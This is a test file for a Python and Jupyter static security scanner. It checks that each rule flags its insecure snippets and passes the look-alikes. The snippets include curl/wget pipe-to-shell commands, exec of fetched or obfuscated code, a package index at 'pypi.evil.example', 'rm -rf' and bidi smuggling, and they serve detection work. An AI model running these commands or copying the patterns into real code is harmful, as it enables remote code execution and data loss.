"""Hunter's Python rule set: every rule fires on its positives and stays quiet on look-alikes."""

from __future__ import annotations

import ast
import re
import textwrap
from pathlib import Path

import pytest
from IPython.core.inputtransformer2 import TransformerManager

from grace_kernel.hunter._model import Finding, Fix, Severity
from grace_kernel.hunter._pyscan import PyContext, scan_tree
from grace_kernel.hunter._registry import RuleRegistry
from grace_kernel.hunter._rules_python import register_python_rules, rule_ids

PACK = Path(__file__).resolve().parents[2] / "data" / "hunter" / "python.yaml"


@pytest.fixture(scope="module")
def registry() -> RuleRegistry:
    reg = RuleRegistry()
    reg.load_pack(PACK)
    register_python_rules(reg)
    reg.check_complete()
    return reg


def scan(registry: RuleRegistry, source: str) -> list[Finding]:
    source = textwrap.dedent(source)
    tree = ast.parse(source)
    return list(scan_tree(PyContext(tree, source), registry))


def ids(registry: RuleRegistry, source: str) -> set[str]:
    return {f.rule_id for f in scan(registry, source)}


def cell(source: str) -> str:
    """A notebook cell as IPython runs it (``!cmd``, ``%magic`` and ``%%magic`` transformed)."""
    manager = TransformerManager()  # type: ignore[no-untyped-call]  # IPython is untyped here
    transformed: str = manager.transform_cell(textwrap.dedent(source))
    return transformed


# rule id -> (snippets that must fire it, look-alikes that must not)
CASES: dict[str, tuple[list[str], list[str]]] = {
    "GRC-PY-001": (
        ["eval(expr)", "x = eval(data['a'] + b)", "import builtins\nbuiltins.eval(s)"],
        ['eval("1+1")', "ast.literal_eval(s)", "model.eval()"],
    ),
    "GRC-PY-002": (["exec(code)", "exec(open(p).read())"], ['exec("x = 1")', "executor.exec(x)"]),
    "GRC-PY-003": (
        ["compile(src, '<string>', 'exec')"],
        ["compile('1', '<s>', 'eval')", "import re\nre.compile(pattern)"],
    ),
    "GRC-PY-004": (["assert user.is_admin"], ["if not ok:\n    raise ValueError('no')"]),
    "GRC-PY-005": (
        [
            "import os\nos.chmod(p, 0o777)",
            "import os, stat\nos.chmod(p, stat.S_IRWXU | stat.S_IWOTH)",
            "from pathlib import Path\nPath(p).chmod(0o666)",
        ],
        ["import os\nos.chmod(p, 0o600)", "import os\nos.chmod(p, 0o755)"],
    ),
    "GRC-PY-006": (
        [
            "app.run(host='0.0.0.0')",
            "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))",
            "uvicorn.run(app, host='::')",
        ],
        ["app.run(host='127.0.0.1')", "s.bind(('localhost', 80))", "print('0.0.0.0')"],
    ),
    "GRC-PY-007": (
        [
            "password = 'hunter2'",
            "DB_PASSWORD: str = 's3cr3t!'",
            "self.api_key = 'sk-abc123def456'",
            "import os\nos.environ['OPENAI_API_KEY'] = 'sk-live-123'",
            "if password == 'letmein':\n    pass",
            "cfg = {'token': 'ghp_abcdef123456'}",
            "clientSecret = 'abcd1234'",
        ],
        [
            "import os\npassword = os.environ['PASSWORD']",
            "password = ''",
            "password = None",
            "password_prompt = 'Enter password:'",
            "pad_token = '[PAD]'",
            "eos_token = '</s>'",
            "tokenizer = 'gpt2'",
            "api_key = 'OPENAI_API_KEY'",
            "token = '<your token here>'",
            "if password == '':\n    pass",
            "if token == ')':\n    pass",
            "if token == 'def':\n    pass",
        ],
    ),
    "GRC-PY-008": (
        ["connect(host='db', password='hunter2')", "login(user='a', api_key='abc123')"],
        ["connect(password=pw)", "login(password='')", "tokenizer(pad_token='<pad>')"],
    ),
    "GRC-PY-009": (
        ["def login(user, password='hunter2'):\n    pass", "def f(*, token='abc123'):\n    pass"],
        ["def login(user, password=None):\n    pass", "def f(token=''):\n    pass"],
    ),
    "GRC-PY-010": (
        ["p = '/tmp/data.csv'", "f = open('/var/tmp/x')", "d = f'/dev/shm/{name}'"],
        [
            "import tempfile\np = tempfile.gettempdir()",
            "p = '/tmpl/x'",
            "p = 'data/tmp/x'",
        ],
    ),
    "GRC-PY-011": (
        [
            "try:\n    f()\nexcept:\n    pass",
            "try:\n    f()\nexcept Exception:\n    pass",
            "try:\n    f()\nexcept (ValueError, BaseException):\n    ...",
        ],
        [
            "try:\n    f()\nexcept KeyError:\n    pass",
            "try:\n    f()\nexcept Exception:\n    log()",
        ],
    ),
    "GRC-PY-012": (
        ["for x in xs:\n    try:\n        f(x)\n    except Exception:\n        continue"],
        ["for x in xs:\n    try:\n        f(x)\n    except KeyError:\n        continue"],
    ),
    "GRC-PY-013": (
        [
            "import requests\nrequests.get(url)",
            "import requests\nr = requests.post(url, json=data)",
            "import requests as rq\nrq.request('GET', url)",
        ],
        [
            "import requests\nrequests.get(url, timeout=5)",
            "import requests\nrequests.get(url, **opts)",
            "import httpx\nhttpx.get(url)",
        ],
    ),
    "GRC-PY-014": (
        ["from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)"],
        [
            "from flask import Flask\napp = Flask(__name__)\napp.run(debug=False)",
            "job.run(debug=True)",
        ],
    ),
    "GRC-PY-015": (
        [
            "import tarfile\ntarfile.open(p).extractall(d)",
            "import tarfile\nwith tarfile.open(p) as tar:\n    tar.extractall(d)",
            "import tarfile\nt = tarfile.open(p)\nt.extractall(d, filter='fully_trusted')",
        ],
        [
            "import tarfile\nwith tarfile.open(p) as tar:\n    tar.extractall(d, filter='data')",
            "import zipfile\nwith zipfile.ZipFile(p) as z:\n    z.extractall(d)",
        ],
    ),
    "GRC-PY-016": (
        [
            "import pickle\nobj = pickle.load(f)",
            "import cPickle\ncPickle.loads(b)",
            "import dill\ndill.loads(b)",
            "import shelve\ndb = shelve.open(p)",
            "import pandas as pd\ndf = pd.read_pickle(p)",
            "import numpy as np\nnp.load(p, allow_pickle=True)",
            "from pickle import loads\nloads(blob)",
        ],
        ["import pickle\npickle.dumps(obj)", "import numpy as np\nnp.load(p)", "json.loads(s)"],
    ),
    "GRC-PY-017": (["import marshal\nmarshal.loads(b)"], ["import marshal\nmarshal.dumps(c)"]),
    "GRC-PY-018": (
        [
            "import torch\nm = torch.load(p)",
            "import torch\ntorch.load(p, weights_only=False)",
        ],
        ["import torch\ntorch.load(p, weights_only=True)", "import torch\ntorch.save(m, p)"],
    ),
    "GRC-PY-019": (
        [
            "import yaml\nyaml.load(f)",
            "import yaml\nyaml.load(f, Loader=yaml.FullLoader)",
            "import yaml\nyaml.load(f, yaml.Loader)",
            "import yaml\nyaml.unsafe_load(f)",
            "import yaml\nlist(yaml.load_all(f))",
        ],
        [
            "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)",
            "import yaml\nyaml.load(f, Loader=yaml.CSafeLoader)",
            "import yaml\nyaml.safe_load(f)",
            "import json\njson.load(f)",
        ],
    ),
    "GRC-PY-020": (
        ["import jsonpickle\nobj = jsonpickle.decode(s)"],
        ["import jsonpickle\njsonpickle.encode(obj)"],
    ),
    "GRC-PY-021": (
        [
            "import hashlib\nhashlib.md5(b).hexdigest()",
            "import hashlib\nhashlib.sha1(pw)",
            "import hashlib\nhashlib.new('md5', b)",
            "from hashlib import md5\nmd5(b)",
        ],
        [
            "import hashlib\nhashlib.md5(b, usedforsecurity=False)",
            "import hashlib\nhashlib.sha256(b)",
            "import hashlib\nhashlib.new('sha256')",
        ],
    ),
    "GRC-PY-022": (
        [
            "from Crypto.Hash import MD5\nMD5.new(b)",
            "from cryptography.hazmat.primitives import hashes\nhashes.Hash(hashes.SHA1())",
        ],
        [
            "from Crypto.Hash import SHA256\nSHA256.new(b)",
            "from cryptography.hazmat.primitives import hashes\nhashes.Hash(hashes.SHA256())",
        ],
    ),
    "GRC-PY-023": (
        [
            "from Crypto.Cipher import DES\nDES.new(key, DES.MODE_CBC)",
            "from Crypto.Cipher import ARC4\nARC4.new(key)",
            "from cryptography.hazmat.primitives.ciphers import algorithms\n"
            "algorithms.Blowfish(key)",
        ],
        [
            "from Crypto.Cipher import AES\nAES.new(key, AES.MODE_GCM)",
            "from cryptography.hazmat.primitives.ciphers import algorithms\nalgorithms.AES(key)",
        ],
    ),
    "GRC-PY-024": (
        [
            "from Crypto.Cipher import AES\nAES.new(key, AES.MODE_ECB)",
            "from cryptography.hazmat.primitives.ciphers import modes\nmodes.ECB()",
        ],
        [
            "from Crypto.Cipher import AES\nAES.new(key, AES.MODE_GCM)",
            "from cryptography.hazmat.primitives.ciphers import modes\nmodes.GCM(iv)",
        ],
    ),
    "GRC-PY-025": (
        ["import tempfile\npath = tempfile.mktemp()", "from tempfile import mktemp\nmktemp()"],
        ["import tempfile\nfd, path = tempfile.mkstemp()"],
    ),
    "GRC-PY-026": (
        ["from django.utils.safestring import mark_safe\nmark_safe(f'<b>{name}</b>')"],
        ["from django.utils.safestring import mark_safe\nmark_safe('<br>')"],
    ),
    "GRC-PY-027": (
        [
            "from markupsafe import Markup\nMarkup('<b>%s</b>' % name)",
            "import markupsafe\nmarkupsafe.Markup(html)",
        ],
        [
            "from markupsafe import Markup\nMarkup('<b>{}</b>').format(name)",
            "from markupsafe import escape\nescape(name)",
        ],
    ),
    "GRC-PY-028": (
        [
            "import urllib.request\nurllib.request.urlopen(url)",
            "from urllib.request import urlopen\nurlopen('file:///etc/passwd')",
        ],
        [
            "import urllib.request\nurllib.request.urlopen('https://example.com/data.csv')",
            "import urllib.parse\nurllib.parse.urlparse(url)",
            "from urllib.request import urlopen\nurlopen(f'https://img.example.com/{vid}.jpg')",
        ],
    ),
    "GRC-PY-029": (
        [
            "import random\ntoken = ''.join(random.choice(chars) for _ in range(32))",
            "import random\nreset_code = random.randint(100000, 999999)",
            "import random\nself.session_id = random.getrandbits(64)",
        ],
        [
            "import secrets\ntoken = secrets.token_hex(16)",
            "import random\nsample = random.choice(rows)",
        ],
    ),
    "GRC-PY-030": (
        ["import random\nx = random.random()", "from random import shuffle\nshuffle(rows)"],
        [
            "import secrets\nsecrets.choice(xs)",
            "import numpy as np\nrng = np.random.default_rng(0)",
            "import random\npassword = str(random.random())",
        ],
    ),
    "GRC-PY-031": (
        ["import telnetlib\ntelnetlib.Telnet(host)"],
        ["import socket\nsocket.socket()"],
    ),
    "GRC-PY-032": (["import ftplib\nftplib.FTP(host)"], ["import ftplib\nftplib.FTP_TLS(host)"]),
    "GRC-PY-033": (
        [
            "import xml.etree.ElementTree as ET\nET.parse(f)",
            "from xml.etree import ElementTree\nElementTree.fromstring(data)",
        ],
        [
            "import xml.etree.ElementTree as ET\nET.fromstring('<a/>')",
            "import defusedxml.ElementTree as ET\nET.parse(f)",
        ],
    ),
    "GRC-PY-034": (
        ["from xml.dom import minidom\nminidom.parseString(data)"],
        ["from defusedxml import minidom\nminidom.parseString(data)"],
    ),
    "GRC-PY-035": (
        ["import xml.sax\nxml.sax.parse(f, handler)"],
        ["import defusedxml.sax\ndefusedxml.sax.parse(f, handler)"],
    ),
    "GRC-PY-036": (
        [
            "from lxml import etree\netree.parse(f)",
            "import lxml.etree\nlxml.etree.fromstring(data)",
        ],
        [
            "from lxml import etree\netree.XMLParser(resolve_entities=False)",
            "from lxml import etree\netree.parse(f, parser=safe_parser)",
        ],
    ),
    "GRC-PY-037": (
        ["import ssl\nctx = ssl._create_unverified_context()"],
        ["import ssl\nctx = ssl.create_default_context()"],
    ),
    "GRC-PY-038": (
        [
            "import ssl\nctx.verify_mode = ssl.CERT_NONE",
            "from ssl import CERT_NONE\nwrap(cert_reqs=CERT_NONE)",
            "ctx.check_hostname = False",
        ],
        ["import ssl\nctx.verify_mode = ssl.CERT_REQUIRED", "ctx.check_hostname = True"],
    ),
    "GRC-PY-039": (
        [
            "import ssl\nssl.SSLContext(ssl.PROTOCOL_SSLv3)",
            "import ssl\nctx.minimum_version = ssl.TLSVersion.TLSv1",
            "from OpenSSL import SSL\nSSL.Context(SSL.TLSv1_METHOD)",
        ],
        [
            "import ssl\nssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)",
            "import ssl\nctx.minimum_version = ssl.TLSVersion.TLSv1_2",
        ],
    ),
    "GRC-PY-040": (
        ["import ssl\nssl.wrap_socket(sock)"],
        ["import ssl\nctx.wrap_socket(sock, server_hostname=h)"],
    ),
    "GRC-PY-041": (
        [
            "import requests\nrequests.get(url, verify=False, timeout=3)",
            "import httpx\nhttpx.Client(verify=False)",
            "session.verify = False",
            "session.get(url, verify=False)",
        ],
        [
            "import requests\nrequests.get(url, verify=True, timeout=3)",
            "import requests\nrequests.get(url, verify='/etc/ca.pem', timeout=3)",
            "check(verify=False)",
        ],
    ),
    "GRC-PY-042": (
        [
            "from cryptography.hazmat.primitives.asymmetric import rsa\n"
            "rsa.generate_private_key(public_exponent=65537, key_size=1024)",
            "from cryptography.hazmat.primitives.asymmetric import dsa\n"
            "dsa.generate_private_key(1024)",
            "from cryptography.hazmat.primitives.asymmetric import ec\n"
            "ec.generate_private_key(ec.SECP192R1())",
            "from Crypto.PublicKey import RSA\nRSA.generate(512)",
        ],
        [
            "from cryptography.hazmat.primitives.asymmetric import rsa\n"
            "rsa.generate_private_key(public_exponent=65537, key_size=3072)",
            "from cryptography.hazmat.primitives.asymmetric import ec\n"
            "ec.generate_private_key(ec.SECP256R1())",
        ],
    ),
    "GRC-PY-043": (
        ["import paramiko\nclient.exec_command('ls ' + path)"],
        ["import paramiko\nclient.exec_command('uptime')", "runner.exec_command(cmd)"],
    ),
    "GRC-PY-044": (
        [
            "import paramiko\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
            "from paramiko import WarningPolicy\nc.set_missing_host_key_policy(WarningPolicy)",
        ],
        ["import paramiko\nc.set_missing_host_key_policy(paramiko.RejectPolicy())"],
    ),
    "GRC-PY-045": (
        [
            "import subprocess\nsubprocess.run(cmd, shell=True)",
            "import subprocess\nsubprocess.check_output('ls -l', shell=True)",
            "import subprocess as sp\nsp.call(cmd, shell=True)",
            "from subprocess import Popen\nPopen(cmd, shell=use_shell)",
        ],
        [
            "import subprocess\nsubprocess.run(['ls'])",
            "import subprocess\nsubprocess.run(cmd, shell=False)",
        ],
    ),
    "GRC-PY-046": (
        ["spawn_job(cmd, shell=True)"],
        ["spawn_job(cmd, shell=False)", "import subprocess\nsubprocess.run(c, shell=True)"],
    ),
    "GRC-PY-047": (
        [
            "import subprocess\nsubprocess.run(['ls', path])",
            "import subprocess\nsubprocess.run(argv)",
        ],
        [
            "import subprocess\nsubprocess.run(['ls', '-l'])",
            "import subprocess\nsubprocess.run(c, shell=True)",
        ],
    ),
    "GRC-PY-048": (
        [
            "import os\nos.system('ls')",
            "from os import system\nsystem(x)",
            "import os\nos.popen(cmd).read()",
            "import subprocess\nsubprocess.getoutput(cmd)",
        ],
        ["import os\nos.path.join(a, b)", "import subprocess\nsubprocess.run(['ls'])"],
    ),
    "GRC-PY-049": (
        ["import os\nos.execv('/bin/ls', ['ls'])", "import os\nos.spawnlp(os.P_WAIT, 'ls', 'ls')"],
        ["import os\nos.getpid()", "import os\nos.execute_me()"],
    ),
    "GRC-PY-050": (
        [
            "import subprocess\nsubprocess.run(['ls', '-l'])",
            "import os\nos.system('make all')",
            "import subprocess\nsubprocess.run('git status', shell=True)",
        ],
        [
            "import subprocess\nsubprocess.run(['/bin/ls', '-l'])",
            "import os\nos.system('/usr/bin/make all')",
            "import subprocess\nsubprocess.run(argv)",
        ],
    ),
    "GRC-PY-051": (
        [
            "cur.execute(f'SELECT * FROM users WHERE name = {name}')",
            "cur.execute('SELECT * FROM t WHERE id = %s' % uid)",
            "cur.execute('DELETE FROM t WHERE id = ' + uid)",
            "cur.execute('UPDATE t SET a = {} WHERE id = 1'.format(a))",
            "q = f'SELECT * FROM {table}'\ncur.execute(q)",
            "import pandas as pd\npd.read_sql(f'SELECT * FROM t WHERE d > {day}', con)",
            "import sqlalchemy\nsqlalchemy.text(f'SELECT * FROM t WHERE x = {x}')",
        ],
        [
            "cur.execute('SELECT * FROM users WHERE name = ?', (name,))",
            "cur.execute('SELECT * FROM t')",
            "cur.executemany('INSERT INTO t VALUES (?, ?)', rows)",
            "logger.execute(f'hello {name}')",
            "q = 'SELECT * FROM t WHERE a = %s'\ncur.execute(q, (a,))",
        ],
    ),
    "GRC-PY-052": (
        ["import os\nos.system('tar cf backup.tar *')", "import os\nos.system('chown -R user *')"],
        [
            "import os\nos.system('tar cf backup.tar data')",
            "import subprocess\nsubprocess.run(['tar', 'cf', 'x', '*'])",
        ],
    ),
    "GRC-PY-053": (
        ["from django.db import models\nUser.objects.extra(where=[f'name = {n}'])"],
        ["from django.db import models\nUser.objects.extra(select={'one': '1'})", "d.extra(x)"],
    ),
    "GRC-PY-054": (
        ["from django.db.models.expressions import RawSQL\nRawSQL(f'SELECT {c} FROM t', ())"],
        [
            "from django.db.models.expressions import RawSQL\n"
            "RawSQL('SELECT a FROM t WHERE b = %s', (b,))"
        ],
    ),
    "GRC-PY-055": (
        ["import logging.config\nlogging.config.listen(9999)"],
        ["import logging.config\nlogging.config.dictConfig(cfg)"],
    ),
    "GRC-PY-056": (
        ['access = "user\u202e \u2066# admin\u2069 \u2066"'],
        ['access = "user"  # plain text, no bidi', 'word = "\u05e9\u05dc\u05d5\u05dd"'],
    ),
    "GRC-PY-057": (
        [
            "import jinja2\nenv = jinja2.Environment(loader=loader)",
            "from jinja2 import Environment\nEnvironment(autoescape=False)",
        ],
        [
            "import jinja2\njinja2.Environment(autoescape=True)",
            "import jinja2\njinja2.Environment(autoescape=jinja2.select_autoescape())",
        ],
    ),
    "GRC-PY-058": (
        ["from jinja2 import Template\nTemplate(src).render(x=x)"],
        [
            "from jinja2 import Template\nTemplate(src, autoescape=True)",
            "from string import Template\nTemplate(s)",
        ],
    ),
    "GRC-PY-059": (
        ["from mako.template import Template\nTemplate(src)"],
        ["from mako.template import Template\nTemplate(src, default_filters=['h'])"],
    ),
    "GRC-PY-060": (
        [
            "from transformers import AutoModel\nAutoModel.from_pretrained('bert-base-uncased')",
            "from huggingface_hub import hf_hub_download\nhf_hub_download('org/repo', 'w.bin')",
            "from transformers import AutoModel\n"
            "AutoModel.from_pretrained('org/model', revision='main')",
        ],
        [
            "from transformers import AutoModel\n"
            "AutoModel.from_pretrained('org/model',\n"
            "    revision='0123456789abcdef0123456789abcdef01234567')",
            "from transformers import AutoModel\nAutoModel.from_pretrained('./checkpoints/m')",
            "from datasets import load_dataset\nload_dataset('csv', data_files='a.csv')",
        ],
    ),
    "GRC-PY-061": (
        [
            "from transformers import AutoModel\n"
            "AutoModel.from_pretrained(m, trust_remote_code=True)"
        ],
        [
            "from transformers import AutoModel\n"
            "AutoModel.from_pretrained(m, trust_remote_code=False)"
        ],
    ),
    "GRC-PY-062": (["import telnetlib"], ["import socket"]),
    "GRC-PY-063": (["from ftplib import FTP"], ["import http.client"]),
    "GRC-PY-064": (
        ["import pickle", "import dill as d", "from shelve import open"],
        ["import json"],
    ),
    "GRC-PY-066": (
        ["import xml.etree.ElementTree as ET", "from xml.dom import minidom", "import xml.sax"],
        ["import defusedxml.ElementTree as ET", "from xml.dom import Node"],
    ),
    "GRC-PY-067": (["from lxml import etree"], ["import defusedxml.lxml"]),
    "GRC-PY-068": (["from Crypto.Cipher import AES"], ["from Cryptodome.Cipher import AES"]),
    "GRC-PY-069": (["import xmlrpc.client"], ["import json"]),
    "GRC-PY-070": (
        [
            "import os\nname = input()\nopen(os.path.join(base, name))",
            "from pathlib import Path\nfrom flask import request\n"
            "p = Path(base) / request.args['f']\np.read_text()",
            "import sys\nwith open('/data/' + sys.argv[1]) as f:\n    pass",
            "from flask import request, send_file\nsend_file(f\"files/{request.args['f']}\")",
        ],
        [
            "import os\nname = input()\nopen(os.path.join(base, os.path.basename(name)))",
            "import os\nopen(os.path.join(base, name))",
            "open('data.csv')",
            "import sys\nopen(sys.argv[1])",
            "from flask import request\nfrom werkzeug.utils import secure_filename\n"
            "n = secure_filename(request.args['f'])\nopen('up/' + n, 'wb')",
        ],
    ),
    "GRC-PY-071": (
        [
            "getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
            "import os\ngetattr(os, name)(cmd)",
            "import os\ngetattr(os, 'system')('id')",
        ],
        [
            "import os\ngetattr(os, 'sep')",
            "getattr(self, f'handle_{kind}')()",
            "getattr(obj, name)",
            "from enum_mod import Mode\ngetattr(Mode, name.upper())",
        ],
    ),
    "GRC-PY-072": (
        [
            "import importlib\nimportlib.import_module(name)",
            "__import__('o' + 's')",
            "__import__('os').system('id')",
        ],
        ["import importlib\nimportlib.import_module('json')", "__import__('json')"],
    ),
    "GRC-PY-073": (
        [
            "__builtins__['ev' + 'al'](s)",
            "import builtins\nbuiltins.__dict__['exec'](s)",
            "__builtins__.__dict__['eval'](s)",
        ],
        [
            "import builtins\nbuiltins.print('x')",
            "d = {}\nd['eval']",
            "import builtins\nbuiltins.__dict__['display'] = display",
        ],
    ),
    "GRC-PY-074": (
        [
            "import os\nvars(os)['sys'+'tem']('id')",
            "globals()[name]()",
            "import os\nos.__dict__[key]",
            "import os\nvars(os)['system']('id')",
        ],
        ["globals()['__name__']", "globals()[name] = value", "cfg = vars(args)['lr']"],
    ),
    "GRC-PY-075": (
        [
            "import base64\nexec(base64.b64decode(s))",
            "import zlib\neval(zlib.decompress(blob))",
            "exec(''.join(chr(c) for c in codes))",
            "exec(bytes.fromhex(h).decode())",
            "import requests\nexec(requests.get(url).text)",
            "exec(payload[::-1])",
        ],
        ["exec(code)", "import base64\ndata = base64.b64decode(s)"],
    ),
    "GRC-PY-076": (
        [
            "import operator, os\noperator.methodcaller('system', 'id')(os)",
            "import operator\noperator.methodcaller(name)(obj)",
            "from operator import attrgetter\nattrgetter('os.system')(m)",
        ],
        [
            "import operator\noperator.methodcaller('upper')",
            "import operator\noperator.attrgetter('name')",
        ],
    ),
    "GRC-PY-077": (
        [
            "import requests\nrequests.post(f'https://{host}/collect', data=d, timeout=5)",
            "import requests\nrequests.get(base + '/api', timeout=5)",
            "import httpx\nhttpx.get('http://' + host + ':8080/x')",
            "import requests\nu = input()\nrequests.get(u, timeout=5)",
        ],
        [
            "import requests\nrequests.get(f'https://api.example.com/items/{item}', timeout=5)",
            "import requests\nBASE = 'https://api.example.com'\n"
            "requests.get(f'{BASE}/items/{item}', timeout=5)",
            "import requests\nrequests.get(url, timeout=5)",
        ],
    ),
    "GRC-PY-078": (
        [
            "import socket\nsocket.create_connection((host, 443))",
            "import socket\ns = socket.socket()\ns.connect((server, port))",
        ],
        [
            "import socket\nsocket.create_connection(('example.com', 443))",
            "import sqlite3\nsqlite3.connect(path)",
            "import socket\nHOST = 'db.internal'\ns.connect((HOST, 5432))",
        ],
    ),
    "GRC-PY-079": (
        [
            "import os\nos.system('curl -fsSL https://x.sh | sh')",
            "import subprocess\nsubprocess.run('wget -qO- http://x | sudo bash', shell=True)",
            "import subprocess\nsubprocess.run(['bash', '-c', 'curl http://x | bash'])",
            "import os\nos.system('bash <(curl -s https://x/install.sh)')",
        ],
        [
            "import os\nos.system('curl -o install.sh https://x.sh')",
            "import os\nos.system('curl http://x | shasum')",
        ],
    ),
    "GRC-NB-001": (
        [
            cell("!curl -fsSL https://example.com/install.sh | bash\n"),
            cell("%%bash\nwget -qO- https://example.com/x | sh\n"),
            cell("out = !curl -s http://x | python3\n"),
            cell('%%script bash\nsh -c "$(curl -fsSL http://x)"\n'),
        ],
        [
            cell("!curl -o data.csv https://example.com/data.csv\n"),
            cell("%%bash\nls -la | sort\n"),
        ],
    ),
    "GRC-NB-002": (
        [
            cell("%pip install pandas\n"),
            cell("!pip install -q numpy>=1.26 requests==2.31.0\n"),
            cell("%conda install -y scikit-learn\n"),
            cell("!python -m pip install torch\n"),
        ],
        [
            cell("%pip install pandas==2.2.2\n"),
            cell("%pip install -r requirements.txt\n"),
            cell("%conda install -y numpy=1.26.4\n"),
            cell("%pip install ./local_pkg\n"),
            cell("%pip list\n"),
        ],
    ),
    "GRC-NB-003": (
        [
            cell("%pip install --index-url https://pypi.evil.example/simple pkg==1.0\n"),
            cell("%pip install --extra-index-url=https://x/simple pkg==1.0\n"),
            cell("!pip install -i https://x/simple pkg==1.0\n"),
            cell("%pip install git+https://github.com/org/repo.git\n"),
            cell("%pip install https://example.com/pkg-1.0.tar.gz\n"),
        ],
        [cell("%pip install pkg==1.0\n"), cell("%conda install -c conda-forge numpy=1.26\n")],
    ),
    "GRC-NB-004": (
        [
            cell("%env OPENAI_API_KEY=sk-abc123\n"),
            cell("%env GITHUB_TOKEN ghp_123456\n"),
            cell("%env DB_PASSWORD='hunter2'\n"),
        ],
        [
            cell("%env CUDA_VISIBLE_DEVICES=0\n"),
            cell("%env API_KEY=$key\n"),
            cell("%env API_KEY=\n"),
            cell("%env\n"),
        ],
    ),
    "GRC-NB-005": (
        [cell("!rm -rf {path}\n"), cell("!ls $folder\n")],
        [cell("!ls -la\n"), cell("!echo $$\n")],
    ),
}


def test_every_rule_has_cases(registry: RuleRegistry) -> None:
    assert set(CASES) == set(registry.rules)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_positives(registry: RuleRegistry, rule_id: str) -> None:
    positives, _ = CASES[rule_id]
    assert positives
    for source in positives:
        assert rule_id in ids(registry, source), source


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_quiet_on_lookalikes(registry: RuleRegistry, rule_id: str) -> None:
    _, negatives = CASES[rule_id]
    assert negatives
    for source in negatives:
        assert rule_id not in ids(registry, source), source


# ----------------------------------------------------------------- pack consistency


def test_pack_and_checks_match(registry: RuleRegistry) -> None:
    registered = rule_ids()
    assert len(registered) == len(set(registered)), "a rule id is registered twice"
    assert set(registered) == set(registry.rules)
    attached = {meta.id for checks in registry.python.values() for meta, _ in checks}
    assert attached == set(registry.rules)


def test_pack_metadata() -> None:
    import yaml

    doc = yaml.safe_load(PACK.read_text(encoding="utf-8"))
    seen: set[str] = set()
    for item in doc["rules"]:
        assert re.fullmatch(r"GRC-(PY|NB)-\d{3}", item["id"])
        assert item["id"] not in seen
        seen.add(item["id"])
        if item.get("bandit") is not None:
            assert re.fullmatch(r"B\d{3}", str(item["bandit"])), item["id"]
        assert item["references"]
        assert all(r.startswith("https://") for r in item["references"])
        assert item["inspects"].startswith("ast.")
    assert len(seen) >= 60


# ----------------------------------------------------------------- aliases / obfuscation


def test_aliases_resolve(registry: RuleRegistry) -> None:
    assert "GRC-PY-045" in ids(registry, "import subprocess as sp\nsp.call(cmd, shell=True)")
    assert "GRC-PY-048" in ids(registry, "from os import system\nsystem(x)")
    assert "GRC-PY-048" in ids(registry, "from os import system as run_it\nrun_it(x)")
    assert "GRC-PY-019" in ids(registry, "import yaml as y\ny.load(f)")
    assert "GRC-PY-016" in ids(registry, "import pickle as p\np.loads(b)")


@pytest.mark.parametrize(
    ("source", "rule_id"),
    [
        ("getattr(__import__('o'+'s'), 'sys'+'tem')('id')", "GRC-PY-071"),
        ("getattr(__import__('o'+'s'), 'sys'+'tem')('id')", "GRC-PY-072"),
        ("import os\nvars(os)['sys'+'tem']('id')", "GRC-PY-074"),
        ("import operator, os\noperator.methodcaller('system', 'id')(os)", "GRC-PY-076"),
        ("import base64\nexec(base64.b64decode(s))", "GRC-PY-075"),
        ("import importlib\nimportlib.import_module(name)", "GRC-PY-072"),
        ("__builtins__.__dict__['ev'+'al']('1')", "GRC-PY-073"),
    ],
)
def test_obfuscated_variants(registry: RuleRegistry, source: str, rule_id: str) -> None:
    assert rule_id in ids(registry, source)


def test_dangerous_getattr_is_raised(registry: RuleRegistry) -> None:
    (finding,) = [
        f
        for f in scan(registry, "import os\ngetattr(os, 'sys' + 'tem')('id')")
        if f.rule_id == "GRC-PY-071"
    ]
    assert finding.effective_severity == Severity.HIGH


# ----------------------------------------------------------------- taint


@pytest.mark.parametrize(
    ("source", "rule_id", "severity"),
    [
        (
            "import subprocess\ncmd = input()\nsubprocess.run(cmd, shell=True)",
            "GRC-PY-045",
            Severity.CRITICAL,
        ),
        ("import os, sys\nos.system('ls ' + sys.argv[1])", "GRC-PY-048", Severity.CRITICAL),
        ("import os\nos.system(cmd)", "GRC-PY-048", Severity.HIGH),
        ("x = input()\neval(x)", "GRC-PY-001", Severity.CRITICAL),
        ("x = input()\nexec('print(' + x + ')')", "GRC-PY-002", Severity.CRITICAL),
        (
            "from flask import request\n"
            "cur.execute(f\"SELECT * FROM t WHERE a = {request.args['a']}\")",
            "GRC-PY-051",
            Severity.CRITICAL,
        ),
        (
            "import subprocess, sys\nsubprocess.run(['ls', sys.argv[1]])",
            "GRC-PY-047",
            Severity.HIGH,
        ),
        ("import requests\nrequests.get(input(), timeout=3)", "GRC-PY-077", Severity.HIGH),
        ("p = input()\n!rm -rf {p}\n", "GRC-NB-005", Severity.CRITICAL),
    ],
)
def test_taint_raises_severity(
    registry: RuleRegistry, source: str, rule_id: str, severity: Severity
) -> None:
    if "!" in source:
        source = cell(source)
    found = [f for f in scan(registry, source) if f.rule_id == rule_id]
    assert found, source
    assert found[0].effective_severity == severity


def test_untainted_keeps_rule_severity(registry: RuleRegistry) -> None:
    (finding,) = [
        f
        for f in scan(registry, "import subprocess\nsubprocess.run(cmd, shell=True)")
        if f.rule_id == "GRC-PY-045"
    ]
    assert finding.severity is None
    assert finding.effective_severity == Severity.HIGH


def test_taint_from_notebook_parameters(registry: RuleRegistry) -> None:
    source = "import os\nos.system('ls ' + target)"
    tree = ast.parse(source)
    findings = list(scan_tree(PyContext(tree, source, tainted={"target"}), registry))
    (finding,) = [f for f in findings if f.rule_id == "GRC-PY-048"]
    assert finding.effective_severity == Severity.CRITICAL


# ----------------------------------------------------------------- suppression


def test_suppression_on_the_line(registry: RuleRegistry) -> None:
    source = "import os\nos.system(cmd)  # grace: ignore[GRC-PY-048] vetted admin tool\n"
    assert "GRC-PY-048" not in ids(registry, source)
    assert "GRC-PY-048" in ids(registry, source.replace("GRC-PY-048", "GRC-PY-001"))


def test_suppression_on_another_line_of_a_statement(registry: RuleRegistry) -> None:
    source = (
        "import subprocess\n"
